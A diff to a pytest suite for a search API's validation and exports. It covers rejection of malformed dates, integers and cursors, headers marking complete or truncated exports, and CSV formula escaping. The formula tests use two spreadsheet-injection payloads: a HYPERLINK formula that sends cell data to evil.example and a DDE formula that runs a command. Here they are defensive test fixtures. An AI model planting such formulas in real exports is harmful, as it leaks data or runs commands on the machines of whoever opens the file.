@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import dataclasses
 import json
+from urllib.parse import quote
 
 import pytest
 
@@ -199,13 +200,13 @@ def test_speakers_stats_and_facet_size(client):
 
 
 def test_exports_stream_every_hit(client):
-    csv_text = client.get("/api/export.csv?q=disarmament").get_data(as_text=True)
+    csv_text = download(client, "/api/export.csv?q=disarmament")[2]
     lines = csv_text.strip().splitlines()
     assert lines[0].startswith("id,doc_id,unit") and len(lines) == 3
-    jsonl = client.get("/api/export.jsonl?unit=quotes&speaker=Lloyd%20Austin")
-    rows = [json.loads(line) for line in jsonl.get_data(as_text=True).splitlines()]
+    jsonl = download(client, "/api/export.jsonl?unit=quotes&speaker=Lloyd%20Austin")[2]
+    rows = [json.loads(line) for line in jsonl.splitlines()]
     assert len(rows) == 3 and all(r["quote"]["speaker"] == "Lloyd Austin" for r in rows)
-    assert client.get("/api/export.csv?per_page=abc").status_code == 400
+    assert download(client, "/api/export.csv?per_page=abc")[0] == 400
 
 
 def test_cors_header(client):
@@ -246,3 +247,192 @@ def test_time_limit_returns_partial_results_flagged(tmp_path, corpus):
 def test_hyphenated_words_are_highlighted_as_one_span(client):
     result = get(client, "/api/search?q=rules-based&unit=passages")
     assert all("<mark>rules-based</mark>" in h["snippets"][0] for h in result["hits"])
+
+
+# -- hostile and odd inputs: a 4xx naming the parameter, never a 500 -------------------------
+
+def download(client, url):
+    """status, headers and text of a (streamed) response, closed after: an export holds a slot
+    for expensive requests until its body is sent."""
+    with client.get(url) as response:
+        return response.status_code, response.headers, response.get_data(as_text=True)
+
+
+@pytest.mark.parametrize("params", [
+    "date_to=9999-12", "date_to=9999-12-31", "date_to=9999", "date_from=9999-12-31",
+    "date_from=0001&date_to=0001-01", "date_from=2024-02-29&date_to=2024-02-29",
+    "date_to=2000-02", "date_to=1900-02", "date_to=2023-12",
+])
+def test_edge_dates_answer(client, params):
+    result = get(client, "/api/search?" + params)
+    assert result["total"] >= 0 and result["query"]["date_to"] != "bad"
+
+
+def test_an_end_bound_covers_its_whole_period(client):
+    query = get(client, "/api/search?date_from=2024-02&date_to=2024-02")["query"]
+    assert (query["date_from"], query["date_to"]) == ("2024-02-01T00:00:00", "2024-02-29T23:59:59")
+    assert get(client, "/api/search?date_to=9999-12")["query"]["date_to"] == "9999-12-31T23:59:59"
+    assert get(client, "/api/search?date_to=1900-02")["query"]["date_to"] == "1900-02-28T23:59:59"
+
+
+@pytest.mark.parametrize("value", [
+    "0000", "0000-01", "0000-01-01", "2022-13", "2022-00", "2022-01-00", "2022-02-30",
+    "2023-02-29", "1900-02-29", "2022-04-31", "10000", "2022-1", "2022-01-1", "22",
+    "\u0662\u0660\u0662\u0662", "２０２２", "2022-01-07T10:00", "2022/01/07", "-2022",
+])
+def test_impossible_dates_are_bad_date(client, value):
+    for param in ("date_from", "date_to"):
+        error = get(client, f"/api/search?{param}={quote(value)}", status=400)["error"]
+        assert (error["code"], error["param"]) == ("bad_date", param), value
+
+
+@pytest.mark.parametrize("value, code", [
+    ("\u00b3", "bad_integer"), ("\u0663", "bad_integer"), ("1e3", "bad_integer"),
+    ("1_0", "bad_integer"), ("1.0", "bad_integer"), ("x", "bad_integer"),
+    ("-1", "limit_out_of_range"), ("0", "limit_out_of_range"), ("1001", "limit_out_of_range"),
+    ("9" * 5000, "limit_out_of_range"),
+])
+def test_speakers_limit_is_validated_like_every_integer(client, value, code):
+    error = get(client, f"/api/speakers?limit={quote(value)}", status=400)["error"]
+    assert (error["code"], error["param"]) == (code, "limit")
+
+
+def test_speakers_limit_empty_is_the_default_and_in_range_values_work(client):
+    assert get(client, "/api/speakers?limit=")["speakers"]
+    assert len(get(client, "/api/speakers?limit=1")["speakers"]) == 1
+    assert len(get(client, "/api/speakers?limit=%2B2")["speakers"]) == 2
+
+
+@pytest.mark.parametrize("param", ["page", "per_page", "facet_size"])
+def test_huge_and_unicode_integers_are_4xx(client, param):
+    for value in ["9" * 5000, "-" + "9" * 40, "\u00b3", "\u0665", "0x10"]:
+        error = get(client, f"/api/search?{param}={quote(value)}", status=400)["error"]
+        assert error["param"] == param and error["code"] in (
+            "bad_integer", f"{param}_out_of_range", "page_out_of_window"), (param, value)
+
+
+def test_a_cursor_of_the_live_version_with_no_document_number_is_400(client):
+    import base64
+    version = get(client, "/api/stats")["index_version"]
+    for key in ([1.0, f"{version}:abc"], [1.0, f"{version}:"], [1.0, f"{version}:\u00b3"],
+                [None, f"{version}:-1"], [1.0, f"{version}:1e3"], [{}, f"{version}:1.5"]):
+        cursor = base64.urlsafe_b64encode(json.dumps(key).encode()).decode().rstrip("=")
+        error = get(client, f"/api/search?cursor={cursor}", status=400)["error"]
+        assert error["code"] in ("cursor_expired", "bad_cursor") and error["param"] == "cursor"
+
+
+def test_405_keeps_its_allow_header(client):
+    for url in ("/api/search", "/api/export.csv", "/api/stats"):
+        response = client.post(url)
+        assert response.status_code == 405
+        assert response.json["error"]["code"] == "method_not_allowed"
+        assert "GET" in response.headers["Allow"]
+
+
+# -- exports tell whether they hold every hit --------------------------------------------------
+
+def test_a_complete_export_says_so_and_has_no_marker(client):
+    status, headers, text = download(client, "/api/export.csv?q=disarmament")
+    assert status == 200
+    assert (headers["X-Export-Total"], headers["X-Export-Rows"]) == ("2", "2")
+    assert headers["X-Export-Complete"] == "true" and "X-Export-Partial" not in headers
+    assert "# export incomplete" not in text and len(text.strip().splitlines()) == 3
+    status, headers, text = download(client, "/api/export.jsonl?q=disarmament")
+    assert headers["X-Export-Complete"] == "true"
+    assert [set(json.loads(line)) >= {"id"} for line in text.splitlines()] == [True, True]
+
+
+def test_an_export_cut_at_the_cap_says_so_in_headers_and_a_last_row(client, api_app,
+                                                                      monkeypatch):
+    import csv
+    import io
+    monkeypatch.setitem(api_app.config["DIPSEARCH"].values["search"], "export_cap", 1)
+    status, headers, text = download(client, "/api/export.csv?q=disarmament")
+    assert status == 200
+    assert (headers["X-Export-Total"], headers["X-Export-Rows"],
+            headers["X-Export-Complete"]) == ("2", "1", "false")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert len(rows) == 3  # header, one hit, the marker
+    assert rows[-1][0] == "# export incomplete: 1 of 2 rows (cap 1)"
+    assert len(rows[-1]) == len(rows[0])
+    status, headers, text = download(client, "/api/export.jsonl?q=disarmament")
+    lines = [json.loads(line) for line in text.splitlines()]
+    assert len(lines) == 2 and headers["X-Export-Complete"] == "false"
+    assert lines[-1] == {"_export": {"complete": False, "rows": 1, "total": 2, "cap": 1,
+                                     "partial": False}}
+
+
+def test_an_export_that_ran_out_of_time_says_so(client, api_app, monkeypatch):
+    service = api_app.extensions["search_service"]
+    real = service.export
+
+    def partial(req, cap):
+        summary, rows = real(req, cap)
+        return dict(summary, partial=True, complete=False), rows
+
+    monkeypatch.setattr(service, "export", partial)
+    status, headers, text = download(client, "/api/export.csv?q=disarmament")
+    assert headers["X-Export-Partial"] == "true" and headers["X-Export-Complete"] == "false"
+    last = text.strip().splitlines()[-1]
+    assert last.startswith("# export incomplete: the search ran out of time; 2 of at least 2")
+    status, headers, text = download(client, "/api/export.jsonl?q=disarmament")
+    assert json.loads(text.splitlines()[-1])["_export"]["partial"] is True
+
+
+# -- CSV cells are safe to open in a spreadsheet -------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+DDE = "=cmd|' /C calc'!A0"
+
+
+@pytest.fixture(scope="module")
+def formula_client(tmp_path_factory):
+    """An app over a corpus whose metadata and text start with spreadsheet formulas."""
+    from search.config import load_config
+    from search.service.indexing import build
+    from web import create_app
+
+    from .conftest import write_config
+
+    tmp = tmp_path_factory.mktemp("formulas")
+    corpus = tmp / "corpus"
+    corpus.mkdir()
+    record = {"id": "formula-1", "title": HYPERLINK, "year": 2020, "speaker": DDE,
+              "country": "+1+2", "source": "@SUM(1+1)", "type": "speech",
+              "text": DDE + " spreadsheet injection attempt.\n\n"
+                      "-10+20 and the rest of a harmless paragraph about spreadsheets."}
+    (corpus / "formulas.jsonl").write_text(json.dumps(record) + "\n")
+    config = load_config(write_config(tmp, corpus))
+    assert build(config).ok
+    return create_app(config).test_client()
+
+
+def test_csv_cells_that_start_a_formula_get_a_leading_quote(formula_client):
+    import csv
+    import io
+    for unit in ("documents", "passages"):
+        status, _, text = download(formula_client, f"/api/export.csv?q=spreadsheet&unit={unit}")
+        assert status == 200
+        rows = list(csv.DictReader(io.StringIO(text)))
+        assert rows, unit
+        for row in rows:
+            assert row["title"] == "'" + HYPERLINK
+            assert row["source"] == "'@SUM(1+1)"
+            assert row["country"] == "'+1+2"
+            for cell in row.values():
+                assert not cell or cell[0] not in "=+-@\t\r", (unit, cell)
+        if unit == "passages":
+            texts = sorted(r["text"] for r in rows)
+            assert texts == sorted(["'" + DDE + " spreadsheet injection attempt.",
+                                    "'-10+20 and the rest of a harmless paragraph about "
+                                    "spreadsheets."])
+    # JSON Lines carries the values as they are: no spreadsheet reads it
+    _, _, text = download(formula_client, "/api/export.jsonl?q=spreadsheet")
+    assert json.loads(text.splitlines()[0])["title"] == HYPERLINK
+
+
+def test_csv_cell_rule():
+    from web.api import _cell
+    assert [_cell(v) for v in ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=b", "", None]] == [
+        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=b", "", ""]
+    assert _cell(-1.5) == -1.5 and _cell(1960) == 1960
